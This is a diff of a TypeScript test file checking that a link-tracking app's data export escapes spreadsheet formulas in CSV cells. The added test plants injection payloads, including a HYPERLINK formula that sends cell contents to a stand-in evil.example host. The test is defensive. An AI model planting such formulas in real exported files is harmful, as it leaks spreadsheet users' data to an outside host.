@@ -2,8 +2,7 @@ import { text } from "node:stream/consumers";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { fromBufferPromise } from "yauzl";
 import { insertClicks } from "../testing/clicks.ts";
-import { call, makeLink, openTestApi, signUp, type TestApi } from "../testing/testApi.ts";
-import { csvLine } from "./csv.ts";
+import { call, makeLink, openTestApi, signUp, type TestApi, type TestUser } from "../testing/testApi.ts";
 
 let api: TestApi;
 beforeAll(async () => {
@@ -19,6 +18,11 @@ async function unzip(bytes: Buffer): Promise<Record<string, string>> {
     files[entry.fileName] = await text(await zip.openReadStreamPromise(entry));
   }
   return files;
+}
+
+async function exported(user: TestUser): Promise<Record<string, string>> {
+  const headers = { authorization: `Bearer ${user.accessToken}` };
+  return unzip((await api.app.inject({ url: "/api/auth/export", headers })).rawPayload);
 }
 
 describe("GET /api/auth/export", () => {
@@ -69,9 +73,31 @@ describe("GET /api/auth/export", () => {
     ]);
     const clicks = files["clicks.csv"]?.trim().split("\n") ?? [];
     expect(clicks).toHaveLength(3);
-    expect(clicks[0]).toContain('"country"');
+    expect(clicks[0]).toMatch(/^link_id,at,.*,country,/);
     expect(JSON.stringify(files)).not.toContain("Foreign");
     expect(JSON.stringify(files)).not.toContain(foreign.id);
+  });
+
+  it("holds no text that a spreadsheet would run, whoever wrote it", async () => {
+    const user = await signUp(api);
+    const formula = '=HYPERLINK("https://evil.example/?"&A1,"Totals")';
+    const link = await makeLink(api, user, { name: "=1+1" });
+    await call(api, "POST", "/api/groups", { user, body: { name: "@SUM(A1)" } });
+    await insertClicks(api, [
+      { ownerId: user.id, linkId: link.id, at: "2026-05-06T00:00:00.000Z", utmSource: formula, city: "-2+3" },
+      { ownerId: user.id, linkId: link.id, at: "2026-05-06T00:00:01.000Z", utmSource: "+1;\n=1", referrer: "\t=1" },
+    ]);
+    const files = await exported(user);
+    expect(files["links.csv"]).toContain(`${link.id},"'=1+1",`);
+    expect(files["groups.csv"]).toContain(`,"'@SUM(A1)",`);
+    expect(files["clicks.csv"]).toContain(`,"'${formula.replaceAll('"', '""')}",`);
+    expect(files["clicks.csv"]).toContain(`,"'-2+3",`);
+    expect(files["clicks.csv"]).toContain(`,"'+1;\n'=1",`);
+    for (const [name, content] of Object.entries(files).filter(([name]) => name.endsWith(".csv")))
+      expect({ name, formulas: content.split(/(?:^|[,;\t\r\n])"?/).filter((cell) => /^[=+\-@]/.test(cell)) }).toEqual({
+        name,
+        formulas: [],
+      });
   });
 
   it("is bigger than one page of anything where the account is", async () => {
@@ -100,11 +126,5 @@ describe("GET /api/auth/export", () => {
 
   it("needs a token", async () => {
     expect((await call(api, "GET", "/api/auth/export")).status).toBe(401);
-  });
-});
-
-describe("a line of CSV", () => {
-  it("puts into quotes what would be read as something else", () => {
-    expect(csvLine(["a", 'say "b"', "c,d", "e\nf", null, 1, true])).toBe('a,"say ""b""","c,d","e\nf",,1,true\r\n');
   });
 });
